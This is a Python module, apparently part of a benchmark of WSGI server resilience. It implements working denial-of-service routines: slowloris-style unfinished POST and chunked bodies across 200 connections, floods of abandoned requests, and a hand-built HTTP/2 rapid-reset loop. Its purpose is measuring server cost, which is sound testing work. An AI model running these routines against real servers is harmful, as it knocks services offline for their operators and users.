"""Attacks against WSGI applications."""

from __future__ import annotations

import socket
import time
from collections.abc import Generator

from bench.attacks import Attack, Floor, Row, Target

CONNECTIONS = 200
LENGTH = 100_000  # bytes of a body, of which the last never comes
POST = b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n%b\r\n"
EXPECT = b"Expect: 100-continue\r\n"
CHUNKED = b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
GET = b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"
# HTTP/2: the preface and empty SETTINGS, a GET of "/" whose fields are in the static table, RST_STREAM (CANCEL).
START = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(3) + b"\x04\x00" + bytes(4)
BLOCK = b"\x82\x86\x84\x41\x01a"
ROUNDS = 80  # of a hundred requests each
WARM = 8  # rounds first: the threads start, and code runs for the first time


def unfinished(head: bytes, body: bytes) -> Attack:
    """Bodies that stop one byte before their ends, on many connections."""

    def run(target: Target) -> Generator[int, None, None]:
        socks = [socket.create_connection((target.host, target.port), timeout=5) for _ in range(CONNECTIONS)]
        yield 0
        for sock in socks:
            sock.sendall(head + body)
        yield CONNECTIONS * len(head + body)
        for sock in socks:
            sock.close()

    return run


def left() -> Attack:
    """Requests whose clients close at once."""

    def run(target: Target) -> Generator[int, None, None]:
        leave(target, 100 * WARM)
        yield 0
        leave(target, 100 * ROUNDS)
        yield 100 * ROUNDS * len(GET)

    return run


def leave(target: Target, count: int) -> None:
    for _ in range(count):
        with socket.create_connection((target.host, target.port), timeout=5) as sock:
            sock.sendall(GET)


def taken_back() -> Attack:
    """Requests that are reset as soon as a hundred were sent, on HTTP/2 connections of a few hundred each: more would
    end them."""

    def run(target: Target) -> Generator[int, None, None]:
        connect(target, WARM)
        yield 0
        yield sum(connect(target, WARM) for _ in range(ROUNDS // WARM))

    return run


def connect(target: Target, rounds: int) -> int:
    """One connection with so many rounds of requests and resets. Returns the bytes sent."""
    sent = len(START)
    with socket.create_connection((target.host, target.port), timeout=5) as sock:
        sock.sendall(START)
        for first in range(1, 200 * rounds, 200):
            numbers = [number.to_bytes(4, "big") for number in range(first, first + 200, 2)]
            requests = b"".join(bytes((0, 0, len(BLOCK), 1, 5)) + number + BLOCK for number in numbers)
            resets = b"".join(b"\x00\x00\x04\x03\x00" + number + b"\x00\x00\x00\x08" for number in numbers)
            sock.sendall(requests)
            time.sleep(0.02)
            sock.sendall(resets)
            time.sleep(0.05)
            sent += len(requests) + len(resets)
    return sent


def answered(target: Target) -> Generator[int, None, None]:
    """The same requests, whose clients wait for their answers."""
    ask(target, 100 * WARM)
    yield 0
    ask(target, 100 * ROUNDS)
    yield 100 * ROUNDS * len(GET)


def ask(target: Target, count: int) -> None:
    for _ in range(count):
        with socket.create_connection((target.host, target.port), timeout=5) as sock:
            sock.sendall(GET)
            sock.recv(4096)


ROWS: list[Row] = [
    Row(
        "wsgi-answered",
        "8,000 requests, a connection each",
        "wsgi",
        answered,
        requests=100 * ROUNDS,
        floor=Floor("no attack: what a request of 27 bytes costs with its connection, thread and answer", 30),
    ),
    Row(
        "wsgi-slow",
        "200 bodies of 100 kB without their last byte",
        "wsgi",
        unfinished(POST % (LENGTH, b""), bytes(LENGTH - 1)),
    ),
    Row(
        "wsgi-expect",
        "the same with `Expect: 100-continue`",
        "wsgi",
        unfinished(POST % (LENGTH, EXPECT), bytes(LENGTH - 1)),
    ),
    Row(
        "wsgi-chunks",
        "200 bodies in chunks of one byte, without end",
        "wsgi",
        unfinished(CHUNKED, b"1\r\nx\r\n" * 10_000),
    ),
    Row(
        "wsgi-left",
        "8,000 requests whose clients close at once",
        "wsgi",
        left(),
        requests=100 * ROUNDS,
        floor=Floor("requests of 27 bytes, for less than half of what an answer takes; memory ends at 26 MiB", 10, 100),
    ),
    Row(
        "wsgi-resets",
        "8,000 HTTP/2 requests, reset within 20 ms",
        "wsgi",
        taken_back(),
        requests=100 * ROUNDS,
        floor=Floor("most are answered by a thread before their resets come", 10, 20),
    ),
]
